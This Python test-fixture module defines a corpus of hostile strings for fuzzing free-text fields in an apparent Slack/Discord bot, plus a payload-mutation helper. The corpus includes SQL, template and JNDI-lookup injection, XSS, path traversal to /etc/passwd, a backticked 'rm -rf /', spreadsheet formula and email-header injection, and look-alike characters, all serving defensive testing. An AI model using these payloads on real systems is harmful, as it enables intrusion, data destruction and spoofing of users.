"""The hostile corpus: texts a user (or an attacker) could type into any free-text field, and payload mutations.

`TEXTS` mixes mentions that would ping, invisible-only text, control and bidi
characters, template / SQL / markup injection, odd Unicode, and sizes past every
limit, each alone and after a visible word (so both the "empty" and the
"accepted but escaped" paths are exercised). `mutations(payload)` yields every
one-field variant of a valid payload: each field removed, each replaced by a
value of the wrong type, and the same one level down.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

MENTIONS = (
    "<!channel>", "<!here>", "<!everyone>", "<@U0BOSS>", "<#C0123>", "<!subteam^S01|@team>", "@everyone", "@here",
    "<@123456789012345678>", "<@!123456789012345678>", "<@&456456456456456456>", "<#789789789789789789>",
    "&lt;!channel&gt;", "<!channel|x>", "<https://evil.example|click me>", "<mailto:boss@corp.example|boss>",
    "@\u200beveryone", "＠everyone", "<!date^1392734382^{date}|x>", "<@U0BOSS|boss>",
)
INVISIBLE = (
    "\u200b", "\u200b\u200b\u200b", "\u2800", "\u2800 \u2800", "\u3164", "\u0301", "\u0301\u0302\u0303\u0304",
    "\ufeff", "\u2060", "\u00ad", "\u180e", "\u200c\u200d", "\u034f", "\U000e0020\U000e007f", " \u200b \u2800 ",
    "\u115f\u1160", "\ufe0f", "\u20dd", "\u200b\n\u200b", "\u3000",
)
CONTROL = (
    "\x00", "a\x00b", "\x1b[31mred\x1b[0m", "line1\nline2", "\r\n", "\u202eevil", "\u2066x\u2069", "\x07bell",
    "\x7f", "tab\there", "\u2028", "\u2029", "\x85", "\x1b]8;;http://x\x1b\\link",
)
INJECTION = (
    "{{ 7*7 }}", "{% for x in range(9) %}x{% endfor %}", "{{ self.__init__.__globals__ }}", "{{ config }}",
    "%s%s%s%n", "{0}{1}{company}", "${jndi:ldap://x.example/a}", "'; DROP TABLE \"case\"; --", "\" OR 1=1 --",
    "<script>alert(1)</script>", "javascript:alert(1)", "../../etc/passwd", "`rm -rf /`", "```code```",
    "*bold* _it_ ~strike~", "> quote", "[link](http://x.example)", "\\", "null", "None", "undefined", "NaN", "0",
    "-1", "1e308", "true", "[]", "{}", '""', "' '", "fernet:gAAAAABnotatoken", "help", "/withdraw forget",
    "forget", "cancel", "restart", "||spoiler||", "# Heading", "<b>bold</b>", "&amp;&lt;&gt;", "%00", "\\u0000",
)
UNICODE = (
    "Ünïcödé GmbH", "شركة الأمل", "株式会社テスト", "🚀" * 10, "👨‍👩‍👧‍👦", "e\u0301" * 30, "Z̷̢̛a̸͝l̴g̵o̷ Inc",
    "\ud83d", "a\udc00b", "𝕬𝖈𝖒𝖊", "ｆｕｌｌｗｉｄｔｈ", "İstanbul ı", "ß" * 10, "\u0627\u0644\u0633\u0644\u0627\u0645",
)
LONG = ("x" * 121, "x" * 1000, "y" * 4001, "word " * 900, "a" * 20_000)
# header and mail-link injection (a subject or address that smuggles a Bcc), look-alikes, and joiners
# hidden inside otherwise normal names
HEADERS = (
    "Withdrawal\r\nBcc: boss@corp.example", "Subject%0d%0aBcc:%20boss@corp.example",
    "a@b.example?bcc=boss@corp.example",
    "sam@example.com&body=I quit", "mailto:boss@corp.example", "=HYPERLINK(\"http://x.example\")", "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
LOOKALIKE = (
    "Аcme", "Acme\u200dCorp", "S\u200bam Lee", "Mia\u00a0Chen", "Acme\u2063", "ＡＣＭＥ", "Acme\u202fGmbH",
    "\u061cAcme",
)

BASES: tuple[str, ...] = (*MENTIONS, *INVISIBLE, *CONTROL, *INJECTION, *UNICODE, *LONG, *HEADERS, *LOOKALIKE)
TEXTS: tuple[str, ...] = tuple(dict.fromkeys((*BASES, *(f"Acme {b}" for b in BASES if len(b) < 200))))
"""Every hostile text, alone and after a visible word; no duplicates."""

WRONG_TYPES: tuple[Any, ...] = (None, 1, "x", [], {}, True, [1], {"id": 5}, -1.5)


def mutations(payload: dict[str, Any]) -> Iterator[tuple[str, dict[str, Any]]]:
    """(what changed, payload) for every one-field change of `payload`, one level deep into objects and lists."""
    for key, value in payload.items():
        yield f"-{key}", {k: v for k, v in payload.items() if k != key}
        for wrong in WRONG_TYPES:
            yield f"{key}={wrong!r}", {**payload, key: wrong}
        inner = value[0] if isinstance(value, list) and value and isinstance(value[0], dict) else value
        if not isinstance(inner, dict):
            continue
        for sub in inner:
            for wrong in WRONG_TYPES[:6]:
                changed = {**inner, sub: wrong}
                yield f"{key}.{sub}={wrong!r}", {**payload, key: [changed] if isinstance(value, list) else changed}


def raw_mentions(text: str) -> list[str]:
    """Mention syntax that would fire if a platform rendered `text` as markup (Slack and Discord)."""
    found = [m for m in ("<!channel", "<!here", "<!everyone", "<!subteam", "<@", "<#") if m in text]
    return found
